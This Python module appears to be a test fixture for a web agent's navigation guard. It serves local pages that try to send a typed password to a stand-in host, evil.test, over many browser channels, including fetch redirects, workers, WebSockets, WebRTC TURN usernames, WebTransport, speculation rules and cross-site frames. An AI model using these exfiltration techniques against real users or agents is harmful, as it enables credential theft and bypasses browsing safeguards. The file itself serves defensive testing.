"""Attack pages for the navigation guard: an allowed site, a forbidden one, one page per channel.

``AttackSites`` serves, from a background thread, on 127.0.0.1:

* the **allowed** site (one HTTP port, reached as ``shop.test`` and, for cross-site frames,
  ``ads.test``): ``/attack/<name>?target=host|private`` is the page of one attack of
  :data:`ATTACKS`, ``/redirect?status=302&to=URL`` a redirect with CORS headers,
  ``/worker.js`` the script of its workers, ``/frame`` a cross-site frame's page, and
  ``/done?attack=...`` the beacon each attack page sends when its attack is over;
* the **forbidden** endpoints, which record everything they receive (:attr:`AttackSites.hits`):
  an HTTP server (answering every request, WebSocket handshakes included, with permissive CORS
  headers), a TCP port (TLS for ``https`` URLs, TURN over TCP) and a UDP port (STUN, TURN,
  QUIC). The STUN/TURN answers ask for credentials (401 with a realm and nonce), so a TURN
  client sends its USERNAME next, as a real server would make it.

Browsers reach the names through Chromium's ``--host-resolver-rules`` (:meth:`AttackSites.browser_args`,
which also makes the allowed origins secure contexts, as WebTransport, PaymentRequest and FedCM
need). The forbidden target is ``evil.test`` (``target=host``: a host outside an allow-list) or
``127.0.0.1`` (``target=private``: what ``private_network`` refuses); ``shop.test`` looks public.

An attack runs when its page loads, or, with ``secret=1``, when the button is clicked: it then
sends the value of the password field (a secret the agent typed) through its channel.
"""

from __future__ import annotations

import asyncio
import contextlib
import html
import json
import struct
import threading
from collections.abc import Callable
from dataclasses import dataclass
from types import TracebackType
from typing import Any, Literal, Self, cast
from urllib.parse import quote

from aiohttp import web

__all__ = [
    "ALLOWED_HOST",
    "ATTACKS",
    "FORBIDDEN_HOST",
    "FRAME_HOST",
    "SECRET_BUTTON",
    "SECRET_FIELD",
    "Attack",
    "AttackSites",
    "Hit",
]

ALLOWED_HOST = "shop.test"
FRAME_HOST = "ads.test"  # another allowed site: its frames run in their own process
FORBIDDEN_HOST = "evil.test"
#: Centre (CSS pixels) of the password field and of the button that sends it, on every attack page.
SECRET_FIELD = (170.0, 40.0)
SECRET_BUTTON = (170.0, 120.0)

Target = Literal["host", "private"]


@dataclass(frozen=True)
class Attack:
    """One way off the allowed site: the page's script (``attack(secret)``, an async function body)."""

    name: str
    script: str
    row: int  # the row of issue 23's table it belongs to


def _attacks() -> dict[str, Attack]:
    # Helpers every page has: F (the forbidden endpoints), R(url, status) an allowed redirect to
    # url, wait(ms), settle(promise, ms) (its outcome or "timeout"), worker(kind, job).
    items = [
        # Row 1: CORS-mode requests redirected from an allowed URL to a forbidden one.
        Attack(
            "fetch-redirect",
            "const r = await fetch(R(F.http + '/fetch-redirect?s=' + secret, 302)); return await r.text();",
            1,
        ),
        Attack(
            "fetch-redirect-post",
            "const r = await fetch(R(F.http + '/fetch-307', 307), {method: 'POST', body: 'pw=' + secret}); return await r.text();",
            1,
        ),
        Attack(
            "xhr-redirect",
            "return await new Promise(ok => { const x = new XMLHttpRequest(); x.open('GET', R(F.http + '/xhr?s=' + secret, 302));"
            " x.onload = () => ok(x.responseText); x.onerror = () => ok('error'); x.send(); });",
            1,
        ),
        Attack(
            "eventsource-redirect",
            "const es = new EventSource(R(F.http + '/events?s=' + secret, 302));"
            " const r = await settle(new Promise(ok => { es.onmessage = e => ok(e.data); es.onerror = () => ok('error'); }), 5000);"
            " es.close(); return r;",
            1,
        ),
        Attack(
            "script-redirect",
            "return await new Promise(ok => { const s = document.createElement('script'); s.crossOrigin = 'anonymous';"
            " s.src = R(F.http + '/script.js?s=' + secret, 302); s.onload = () => ok('loaded'); s.onerror = () => ok('error');"
            " document.head.append(s); });",
            1,
        ),
        Attack(
            "img-redirect",
            "return await new Promise(ok => { const i = new Image(); i.crossOrigin = 'anonymous';"
            " i.onload = () => ok('loaded'); i.onerror = () => ok('error'); i.src = R(F.http + '/img.png?s=' + secret, 302); });",
            1,
        ),
        # Row 2: workers.
        Attack("sharedworker-fetch", "return await worker('shared', 'fetch', secret);", 2),
        Attack("sharedworker-redirect", "return await worker('shared', 'redirect', secret);", 2),
        Attack("sharedworker-websocket", "return await worker('shared', 'websocket', secret);", 2),
        Attack("worker-websocket", "return await worker('dedicated', 'websocket', secret);", 2),
        Attack("worker-redirect", "return await worker('dedicated', 'redirect', secret);", 2),
        # Row 5: channels outside HTTP(S) loaders.
        Attack("webrtc-stun", "return await ice([{urls: 'stun:' + F.udp}]);", 5),
        Attack(
            "webrtc-turn-udp",
            "return await ice([{urls: 'turn:' + F.udp + '?transport=udp', username: secret, credential: 'x'}]);",
            5,
        ),
        Attack(
            "webrtc-turn-tcp",
            "return await ice([{urls: 'turn:' + F.tcp + '?transport=tcp', username: secret, credential: 'x'}]);",
            5,
        ),
        Attack(
            "webtransport",
            "const t = new WebTransport(F.quic + '/wt?s=' + secret); const r = await settle(t.ready.then(() => 'open'), 3000);"
            " try { t.close(); } catch (e) {} return r;",
            5,
        ),
        Attack(
            "payment-request",
            "const p = new PaymentRequest([{supportedMethods: F.https + '/pay'}], {total: {label: 'x', amount: {currency: 'USD', value: '1'}}});"
            " return await settle(p.canMakePayment().then(String), 3000);",
            5,
        ),
        Attack(
            "fedcm",
            "return await settle(navigator.credentials.get({identity: {providers: [{configURL: F.https + '/fedcm.json', clientId: 'c'}]}})"
            ".then(() => 'signed in'), 3000);",
            5,
        ),
        Attack(
            "speculation-prefetch",
            "return await speculate('prefetch', [F.https + '/prefetch', F.http + '/prefetch']);",
            5,
        ),
        Attack("speculation-prerender", "return await speculate('prerender', [F.sameSite + '/prerender']);", 5),
        Attack(
            "speculation-prerender-redirect",
            "return await speculate('prerender', [R(F.http + '/prerender-hop', 302)]);",
            5,
        ),
        # Row 8: a cross-site (out-of-process) frame.
        Attack("oopif-navigate", "return await frame('navigate');", 8),
        Attack("oopif-redirect", "return await frame('redirect');", 8),
        Attack("oopif-fetch-redirect", "return await frame('fetch-redirect');", 8),
        # Row 9: a popup to an allowed URL that redirects away (needs a click: popups want a gesture).
        Attack("popup-redirect", "window.open(R(F.http + '/popup', 302)); return 'opened';", 9),
    ]
    return {a.name: a for a in items}


#: Every attack, by name.
ATTACKS = _attacks()

_HELPERS = """
const R = (url, status) => location.origin + '/redirect?status=' + status + '&to=' + encodeURIComponent(url);
const wait = ms => new Promise(ok => setTimeout(() => ok('timeout'), ms));
const settle = (p, ms) => Promise.race([Promise.resolve(p).catch(e => 'error: ' + e), wait(ms)]);
async function worker(kind, job, secret) {
  const src = '/worker.js?job=' + job + '&target=' + TARGET + '&s=' + encodeURIComponent(secret);
  return await settle(new Promise(ok => {
    if (kind === 'shared') { const w = new SharedWorker(src); w.port.onmessage = e => ok(e.data); w.port.start(); }
    else { const w = new Worker(src); w.onmessage = e => ok(e.data); w.onerror = () => ok('error'); }
  }), 8000);
}
async function ice(iceServers) {
  const pc = new RTCPeerConnection({iceServers, iceTransportPolicy: 'all'});
  pc.createDataChannel('x');
  await pc.setLocalDescription(await pc.createOffer());
  const r = await settle(new Promise(ok => { pc.onicegatheringstatechange = () => pc.iceGatheringState === 'complete' && ok('gathered'); }), 4000);
  pc.close();
  return r;
}
async function speculate(kind, urls) {
  const s = document.createElement('script');
  s.type = 'speculationrules';
  s.textContent = JSON.stringify({[kind]: [{source: 'list', urls, eagerness: 'immediate'}]});
  document.head.append(s);
  return await wait(2000);
}
async function frame(job) {
  const f = document.createElement('iframe');
  f.src = F.frame + '/frame?job=' + job + '&target=' + TARGET;
  f.style = 'position:absolute;left:400px;top:200px;width:300px;height:200px';
  document.body.append(f);
  return await settle(new Promise(ok => addEventListener('message', e => ok(e.data))), 8000);
}
"""

_WORKER = """
const F = %(forbidden)s;
const R = (url, status) => location.origin + '/redirect?status=' + status + '&to=' + encodeURIComponent(url);
const secret = %(secret)s;
async function job() {
  try {
    if (JOB === 'fetch') return await (await fetch(F.http + '/worker-fetch?s=' + secret)).text();
    if (JOB === 'redirect') return await (await fetch(R(F.http + '/worker-307', 307), {method: 'POST', body: 'pw=' + secret})).text();
    if (JOB === 'websocket') return await new Promise(ok => {
      const ws = new WebSocket(F.ws + '/worker-socket?s=' + secret);
      ws.onopen = () => ok('open'); ws.onerror = () => ok('error'); setTimeout(() => ok('timeout'), 5000);
    });
  } catch (e) { return 'error: ' + e; }
}
const JOB = %(job)s;
if (typeof onconnect === 'undefined' && typeof WorkerGlobalScope !== 'undefined' && !self.SharedWorkerGlobalScope)
  job().then(r => postMessage(r));
else onconnect = e => { const port = e.ports[0]; job().then(r => port.postMessage(r)); };
"""

_FRAME = """<!doctype html><html><head><meta charset="utf-8"><title>frame</title></head><body>frame
<script>
const F = %(forbidden)s;
const R = (url, status) => location.origin + '/redirect?status=' + status + '&to=' + encodeURIComponent(url);
const JOB = %(job)s;
onload = async () => {
  if (JOB === 'navigate') { parent.postMessage('navigating', '*'); location.href = F.http + '/oopif-navigate'; }
  else if (JOB === 'redirect') { parent.postMessage('navigating', '*'); location.href = R(F.http + '/oopif-redirect', 302); }
  else {
    let r;
    try { r = await (await fetch(R(F.http + '/oopif-fetch', 307), {method: 'POST', body: 'x'})).text(); } catch (e) { r = 'error'; }
    parent.postMessage(r, '*');
  }
};
</script></body></html>
"""

_PAGE = """<!doctype html><html lang="en"><head><meta charset="utf-8"><title>Attack %(name)s</title>
<style>body{margin:0;font:16px sans-serif} .x{position:absolute;left:20px;width:300px;height:40px;font:16px sans-serif}</style>
</head><body>
<input class="x" id="pw" type="password" autocomplete="off" style="top:20px">
<button class="x" id="go" style="top:100px">Send</button>
<div id="out" style="position:absolute;left:20px;top:180px"></div>
<script>
const F = %(forbidden)s;
const TARGET = %(target)s;
%(helpers)s
async function attack(secret) { %(script)s }
async function run() {
  let result;
  try { result = String(await attack(document.getElementById('pw').value || 'none')); } catch (e) { result = 'error: ' + e; }
  document.getElementById('out').textContent = result;
  await fetch('/done?attack=%(name)s&result=' + encodeURIComponent(result)).catch(() => {});
}
%(start)s
</script></body></html>
"""


@dataclass(frozen=True)
class Hit:
    """Something a forbidden endpoint received: ``channel`` is http, tcp or udp."""

    channel: str
    what: str  # the request line, or the first bytes
    data: bytes  # everything received (headers and body for HTTP)


class AttackSites:
    """The allowed site and the forbidden endpoints (see the module docstring), on 127.0.0.1."""

    def __init__(self) -> None:
        self._hits: list[Hit] = []
        self._done: dict[str, list[str]] = {}
        self._lock = threading.RLock()  # a predicate of wait() may read hits
        self._changed = threading.Condition(self._lock)
        self._loop: asyncio.AbstractEventLoop | None = None
        self._thread: threading.Thread | None = None
        self._stop: asyncio.Event | None = None
        self.allowed_port = self.forbidden_port = self.tcp_port = self.udp_port = 0

    # -- what the tests use ----------------------------------------------------------------
    def browser_args(self) -> list[str]:
        """Chromium flags: the test names resolve to 127.0.0.1, the allowed origins are secure contexts."""
        origins = ",".join(f"http://{h}:{self.allowed_port}" for h in (ALLOWED_HOST, FRAME_HOST))
        return ["--host-resolver-rules=MAP *.test 127.0.0.1", f"--unsafely-treat-insecure-origin-as-secure={origins}"]

    @property
    def origin(self) -> str:
        return f"http://{ALLOWED_HOST}:{self.allowed_port}"

    def url(self, attack: str, *, target: Target = "host", secret: bool = False) -> str:
        """The page of ``attack`` (a name of :data:`ATTACKS`) on the allowed site."""
        if attack not in ATTACKS:
            raise KeyError(attack)
        return f"{self.origin}/attack/{attack}?target={target}" + ("&secret=1" if secret else "")

    def forbidden(self, target: Target) -> dict[str, str]:
        """The forbidden endpoints as the pages name them."""
        host = FORBIDDEN_HOST if target == "host" else "127.0.0.1"
        same_site = f"evil.{ALLOWED_HOST}" if target == "host" else "127.0.0.1"
        return {
            "http": f"http://{host}:{self.forbidden_port}",
            "ws": f"ws://{host}:{self.forbidden_port}",
            "https": f"https://{host}:{self.tcp_port}",
            "quic": f"https://{host}:{self.udp_port}",
            "udp": f"127.0.0.1:{self.udp_port}",  # WebRTC resolves no name for UDP under the resolver rules
            "tcp": f"{host}:{self.tcp_port}",
            "sameSite": f"http://{same_site}:{self.forbidden_port}",
            "frame": f"http://{FRAME_HOST}:{self.allowed_port}",
        }

    @property
    def hits(self) -> list[Hit]:
        """What the forbidden endpoints received so far."""
        with self._lock:
            return list(self._hits)

    def results(self, attack: str) -> list[str]:
        """The results the page of ``attack`` reported so far (one per run)."""
        with self._lock:
            return list(self._done.get(attack, []))

    def clear(self) -> None:
        with self._lock:
            self._hits.clear()
            self._done.clear()

    def wait(self, predicate: Callable[[], bool], timeout_s: float) -> bool:
        """Block until ``predicate()`` holds (checked at each hit or report), at most ``timeout_s``."""
        with self._changed:
            return self._changed.wait_for(predicate, timeout_s)

    async def wait_done(self, attack: str, timeout_s: float = 30.0) -> str | None:
        """The result ``attack``'s page reported first since ``clear()`` (None if none came in time)."""
        ok = await asyncio.to_thread(self.wait, lambda: bool(self._done.get(attack)), timeout_s)
        return self.results(attack)[0] if ok else None

    async def wait_hit(self, timeout_s: float = 30.0) -> bool:
        """Whether a forbidden endpoint receives something within ``timeout_s``."""
        return await asyncio.to_thread(self.wait, lambda: bool(self._hits), timeout_s)

    def _record(self, hit: Hit) -> None:
        with self._changed:
            self._hits.append(hit)
            self._changed.notify_all()

    def _report(self, attack: str, result: str) -> None:
        with self._changed:
            self._done.setdefault(attack, []).append(result)
            self._changed.notify_all()

    # -- the allowed site ------------------------------------------------------------------
    async def _allowed(self, request: web.Request) -> web.StreamResponse:
        cors = {"Access-Control-Allow-Origin": request.headers.get("Origin", "*"), "Cache-Control": "no-store"}
        query = request.query
        target: Target = "private" if query.get("target") == "private" else "host"
        path = request.path
        if path.startswith("/attack/") and path[8:] in ATTACKS:
            attack = ATTACKS[path[8:]]
            page = _PAGE % {
                "name": attack.name,
                "forbidden": json.dumps(self.forbidden(target)),
                "target": json.dumps(target),
                "helpers": _HELPERS,
                "script": attack.script,
                "start": "document.getElementById('go').onclick = run;" if query.get("secret") else "run();",
            }
            return web.Response(text=page, content_type="text/html", headers=cors)
        if path == "/redirect":
            headers = {**cors, "Location": query.get("to", "/")}
            return web.Response(status=int(query.get("status", "302")), headers=headers)
        if path == "/worker.js":
            script = _WORKER % {
                "forbidden": json.dumps(self.forbidden(target)),
                "secret": json.dumps(query.get("s", "")),
                "job": json.dumps(query.get("job", "")),
            }
            return web.Response(text=script, content_type="text/javascript", headers=cors)
        if path == "/frame":
            page = _FRAME % {"forbidden": json.dumps(self.forbidden(target)), "job": json.dumps(query.get("job", ""))}
            return web.Response(text=page, content_type="text/html", headers=cors)
        if path == "/done":
            self._report(query.get("attack", ""), query.get("result", ""))
            return web.Response(text="ok", headers=cors)
        body = f"<!doctype html><title>allowed</title><h1>Allowed page {html.escape(path)}</h1>"
        return web.Response(text=body, content_type="text/html", headers=cors)

    # -- the forbidden endpoints -----------------------------------------------------------
    async def _forbidden_http(self, request: web.Request) -> web.StreamResponse:
        body = await request.read()
        head = f"{request.method} {request.path_qs} HTTP/1.1\r\n" + "".join(
            f"{k}: {v}\r\n" for k, v in request.headers.items()
        )
        self._record(Hit("http", f"{request.method} {request.host}{request.path_qs}", head.encode() + b"\r\n" + body))
        headers = {
            "Access-Control-Allow-Origin": request.headers.get("Origin", "*"),
            "Access-Control-Allow-Credentials": "true",
            "Supports-Loading-Mode": "credentialed-prerender",
            "Cache-Control": "no-store",
        }
        if request.path == "/events":
            return web.Response(text="data: forbidden reply\n\n", content_type="text/event-stream", headers=headers)
        return web.Response(text="forbidden reply", content_type="text/plain", headers=headers)

    async def _forbidden_tcp(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        received = b""
        try:
            while len(received) < 65536:
                chunk = await asyncio.wait_for(reader.read(4096), 3.0)
                if not chunk:
                    break
                if not received:
                    self._record(Hit("tcp", chunk[:40].hex(), chunk))
                else:
                    self._record(Hit("tcp", "more", chunk))
                received += chunk
                reply = _stun_reply(chunk)
                if reply:
                    writer.write(reply)
                    await writer.drain()
        except (TimeoutError, ConnectionError):
            pass
        finally:
            if not received:
                self._record(Hit("tcp", "connection", b""))
            writer.close()

    def _forbidden_udp(self, data: bytes, addr: tuple[str, int], transport: asyncio.DatagramTransport) -> None:
        self._record(Hit("udp", data[:40].hex(), data))
        reply = _stun_reply(data)
        if reply:
            transport.sendto(reply, addr)

    # -- running -----------------------------------------------------------------------------
    def start(self) -> Self:
        ready = threading.Event()
        failure: list[BaseException] = []

        def serve() -> None:
            loop = asyncio.new_event_loop()
            self._loop = loop
            try:
                loop.run_until_complete(self._serve(ready))
            except BaseException as exc:  # a failed start is raised in start()
                failure.append(exc)
                ready.set()
            finally:
                loop.close()

        self._thread = threading.Thread(target=serve, name="webagent-attack-sites", daemon=True)
        self._thread.start()
        ready.wait(30)
        if failure:
            raise failure[0]
        return self

    async def _serve(self, ready: threading.Event) -> None:
        self._stop = asyncio.Event()
        runners = []
        ports = []
        for handler in (self._allowed, self._forbidden_http):
            app = web.Application()
            app.router.add_route("*", "/{tail:.*}", handler)
            runner = web.AppRunner(app, access_log=None)
            await runner.setup()
            site = web.TCPSite(runner, "127.0.0.1", 0)
            await site.start()
            runners.append(runner)
            ports.append(runner.addresses[0][1])
        tcp = await asyncio.start_server(self._forbidden_tcp, "127.0.0.1", 0)
        loop = asyncio.get_running_loop()
        udp, _ = await loop.create_datagram_endpoint(lambda: _Datagrams(self), local_addr=("127.0.0.1", 0))
        self.allowed_port, self.forbidden_port = ports
        self.tcp_port = tcp.sockets[0].getsockname()[1]
        self.udp_port = udp.get_extra_info("sockname")[1]
        ready.set()
        try:
            await self._stop.wait()
        finally:
            udp.close()
            tcp.close()
            with contextlib.suppress(Exception):
                await asyncio.wait_for(tcp.wait_closed(), 2)
            for runner in runners:
                await runner.cleanup()

    def stop(self) -> None:
        loop, stop, thread = self._loop, self._stop, self._thread
        if loop is not None and stop is not None and not loop.is_closed():
            loop.call_soon_threadsafe(stop.set)
        if thread is not None:
            thread.join(10)
        self._thread = None

    def __enter__(self) -> Self:
        return self.start()

    def __exit__(
        self, exc_type: type[BaseException] | None, exc: BaseException | None, tb: TracebackType | None
    ) -> None:
        self.stop()


class _Datagrams(asyncio.DatagramProtocol):
    def __init__(self, sites: AttackSites) -> None:
        self._sites = sites
        self._transport: asyncio.DatagramTransport | None = None

    def connection_made(self, transport: asyncio.BaseTransport) -> None:
        self._transport = cast(asyncio.DatagramTransport, transport)

    def datagram_received(self, data: bytes, addr: tuple[str | Any, int]) -> None:
        if self._transport is not None:
            self._sites._forbidden_udp(data, addr, self._transport)


_COOKIE = 0x2112A442


def _stun_reply(data: bytes) -> bytes | None:
    """A STUN/TURN server's answer to a request: a binding response, or 401 (realm and nonce) to
    an Allocate, so that the client sends its credentials next, as with a real TURN server."""
    if len(data) < 20:
        return None
    kind, _, cookie = struct.unpack("!HHI", data[:8])
    if cookie != _COOKIE or kind & 0x0110:  # not a request
        return None
    txid = data[8:20]
    method = kind & 0x3EEF
    if method == 0x0001:  # Binding: a success response without attributes
        return struct.pack("!HHI", 0x0101, 0, _COOKIE) + txid
    if method != 0x0003:  # only Allocate is answered besides
        return None

    def attr(kind: int, value: bytes) -> bytes:
        pad = b"\0" * (-len(value) % 4)
        return struct.pack("!HH", kind, len(value)) + value + pad

    attrs = attr(0x0009, b"\0\0\x04\x01Unauthorized") + attr(0x0014, b"evil") + attr(0x0015, b"0123456789abcdef")
    return struct.pack("!HHI", 0x0113, len(attrs), _COOKIE) + txid + attrs


def redirect_to(url: str, status: int = 302) -> str:
    """The path of an allowed redirect to ``url``."""
    return f"/redirect?status={status}&to={quote(url, safe='')}"
